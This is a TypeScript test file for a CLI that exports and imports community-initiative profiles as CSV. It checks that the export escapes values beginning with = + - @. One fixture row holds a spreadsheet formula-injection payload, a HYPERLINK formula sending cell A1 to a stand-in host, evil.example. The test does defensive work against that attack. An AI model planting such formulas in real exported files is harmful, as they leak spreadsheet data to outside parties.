import { execFile } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, describe, expect, it } from "vitest";
import { openDatabase } from "../../src/store/open-database.js";
import { SqliteInitiativeDirectory } from "../../src/store/sqlite-initiative-directory.js";
import { copyOfStarterKnowledge, REPO_ROOT, tempDir } from "../helpers/temp-knowledge.js";

const run = promisify(execFile);
const TSX = path.join(REPO_ROOT, "node_modules", ".bin", "tsx");

/** `kennis -- initiatieven export` with values a spreadsheet would run as formulas, and the import of that file, as real processes. */
describe("the gids spreadsheet and formulas", () => {
  const temp = tempDir();
  const file = (name: string) => path.join(temp.dir, name);
  const knowledge = copyOfStarterKnowledge(temp.dir);
  const kennis = (data: string, ...args: string[]) =>
    run(TSX, ["src/cli/kennis.ts", ...args], { cwd: REPO_ROOT, env: { ...process.env, DATA_DIR: file(data), KNOWLEDGE_DIR: knowledge, ROSTER_FILE: file("roster.yaml"), LOG_LEVEL: "error" } });
  const profiles = (data: string) => {
    const db = openDatabase(path.join(file(data), "vliegwiel.db"));
    try {
      return new SqliteInitiativeDirectory(db).list({ includeSuggested: true }).map(({ version: _v, updatedAt: _a, updatedBy: _b, ...rest }) => rest);
    } finally {
      db.close();
    }
  };
  afterAll(() => temp.cleanup());

  it("given profiles whose fields start with = + - @, then the export shows them as text, and importing the export gives every value back", async () => {
    fs.writeFileSync(file("in.csv"), [
      "id;naam;kern;gemeente;provincie;themas;omschrijving;ervaring;hulp_gezocht;website;status;bron;contact_naam;contact_slack;contact_discord;contact_mag_benaderd",
      `klik-hier;"=HYPERLINK(""http://evil.example/?""&A1;""Klik"")";'t Hoekje;'s-Hertogenbosch;Noord-Brabant;energie;-30% energie en +10 leden;@iedereen welkom;+31 6 1234 5678;;gepubliceerd;;=1+1;U0KEES;;ja`,
    ].join("\r\n"));
    expect((await kennis("data", "initiatieven", "import", file("in.csv"))).stdout).toContain("1 nieuw");
    const imported = profiles("data");
    expect(imported[0]).toMatchObject({ name: '=HYPERLINK("http://evil.example/?"&A1;"Klik")', place: "'t Hoekje", municipality: "'s-Hertogenbosch", description: "-30% energie en +10 leden" });

    await kennis("data", "initiatieven", "export", file("uit.csv"));
    const line = fs.readFileSync(file("uit.csv"), "utf8").split(/\r?\n/)[1]!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""Klik"")"`);
    expect(line).toContain(";'-30% energie en +10 leden;'@iedereen welkom;'+31 6 1234 5678;");
    expect(line).toContain(";'=1+1;");
    expect(line).toContain(";'t Hoekje;'s-Hertogenbosch;"); // a quote of the value itself stays as it is
    expect(line).not.toMatch(/(^|;)"?[=+\-@]/);

    await kennis("data2", "initiatieven", "import", file("uit.csv"));
    expect(profiles("data2")).toEqual(imported);
  }, 120_000);
});
